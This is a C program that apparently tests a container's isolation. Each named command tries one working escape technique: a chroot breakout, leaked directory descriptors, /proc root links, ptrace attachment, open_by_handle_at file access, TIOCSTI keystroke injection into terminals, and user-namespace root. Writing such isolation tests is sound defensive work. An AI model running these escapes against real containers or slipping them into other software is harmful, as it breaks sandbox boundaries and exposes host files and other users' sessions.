// Ways out of a container, each under its name: those that a shell has no word for. Exit status 0: it led out, and what
// was found outside is printed; 1: it did not. Static, since the root that it runs in has no libraries.
//
// usage: attempts NAME [WORD...]
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <unistd.h>

static int failed(const char* what) {
  fprintf(stderr, "%s: %s\n", what, strerror(errno));
  return 1;
}

static int show_file(int file, const char* name) {
  char text[256];
  const ssize_t count = file == -1 ? -1 : read(file, text, sizeof text);
  if (count <= 0) return failed(name);
  fwrite(text, 1, (size_t)count, stdout);
  return 0;
}

static int show(int folder, const char* path) { return show_file(openat(folder, path, O_RDONLY), path); }

// A root below the working folder: from there upwards nothing stops.
static int chroot_out(char** words) {
  mkdir("/tmp/below", 0755);
  if (chroot("/tmp/below") == -1) return failed("chroot");
  for (int i = 0; i < 100; ++i)
    if (chdir("..") == -1) return failed("chdir ..");
  if (chroot(".") == -1) return failed("chroot .");
  return show(AT_FDCWD, words[0]);
}

// A folder that somebody left open. WORD: the path of a file from the root.
static int descriptor(char** words) {
  for (int fd = 3; fd < 1024; ++fd) {
    if (fchdir(fd) == -1) continue;
    for (int i = 0; i < 100; ++i)
      if (chdir("..") == -1) return failed("chdir ..");
    if (show(AT_FDCWD, words[0] + 1) == 0) return 0;
  }
  fprintf(stderr, "no descriptor leads there\n");
  return 1;
}

// The doors of /proc: the root, the working folder, and the descriptors of each process.
static int proc(char** words) {
  DIR* processes = opendir("/proc");
  if (processes == NULL) return failed("/proc");
  const char* doors[] = {"root", "cwd"};
  for (struct dirent* entry; (entry = readdir(processes)) != NULL;) {
    if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
    for (int i = 0; i < 2; ++i) {
      char path[4096];
      snprintf(path, sizeof path, "/proc/%s/%s%s", entry->d_name, doors[i], words[0]);
      if (show(AT_FDCWD, path) == 0) return 0;
    }
  }
  return 1;
}

// Attaches itself to a process.
static int trace(char** words) {
  const pid_t pid = atoi(words[0]);
  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == -1) return failed("ptrace");
  printf("traced\n");
  return 0;
}

// "handle PATH" prints a file's handle; "by-handle BYTES" opens it on the file system of standard input.
static int handle(char** words) {
  union {
    struct file_handle head;
    unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  } file = {.head = {.handle_bytes = MAX_HANDLE_SZ}};
  int mount;
  if (name_to_handle_at(AT_FDCWD, words[0], &file.head, &mount, 0) == -1) return failed("name_to_handle_at");
  for (size_t i = 0; i < sizeof file.head + file.head.handle_bytes; ++i) printf("%02x", file.bytes[i]);
  return 0;
}

static int by_handle(char** words) {
  union {
    struct file_handle head;
    unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  } file = {0};
  for (size_t i = 0; i < sizeof file.bytes && words[0][2 * i] != 0; ++i) {
    unsigned byte;
    if (sscanf(words[0] + 2 * i, "%2x", &byte) != 1) return 1;
    file.bytes[i] = (unsigned char)byte;
  }
  return show_file(open_by_handle_at(0, &file.head, O_RDONLY), "open_by_handle_at");
}

// Types WORD into each terminal that is open; prints which took it.
static int type(char** words) {
  int took = 0;
  for (int fd = 0; fd < 1024; ++fd) {
    if (!isatty(fd)) continue;
    int all = 1;
    for (const char* key = words[0]; *key != 0; ++key) all &= ioctl(fd, TIOCSTI, key) == 0;
    if (all)
      took += printf("descriptor %d took it\n", fd);
    else
      failed("TIOCSTI");
  }
  return took == 0;
}

static int write_to(const char* path, const char* text) {
  const int file = open(path, O_WRONLY);
  if (file == -1 || write(file, text, strlen(text)) == -1) return failed(path);
  return close(file);
}

// WORDs as root of a user namespace, with mounts and groups of its own.
static int user(char** words) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == -1) return failed("unshare");
  if (write_to("/proc/self/setgroups", "deny") || write_to("/proc/self/uid_map", "0 0 1") ||
      write_to("/proc/self/gid_map", "0 0 1"))
    return 1;
  execvp(words[0], words);
  return failed(words[0]);
}

int main(int argc, char** argv) {
  const struct {
    const char* name;
    int (*attempt)(char**);
  } attempts[] = {{"chroot", chroot_out}, {"descriptor", descriptor}, {"proc", proc}, {"trace", trace},
                  {"handle", handle},     {"by-handle", by_handle},   {"type", type}, {"user", user}};
  for (size_t i = 0; i < sizeof attempts / sizeof *attempts; ++i)
    if (argc > 2 && strcmp(argv[1], attempts[i].name) == 0) return attempts[i].attempt(argv + 2);
  fprintf(stderr, "usage: attempts NAME WORD...\n");
  return 2;
}
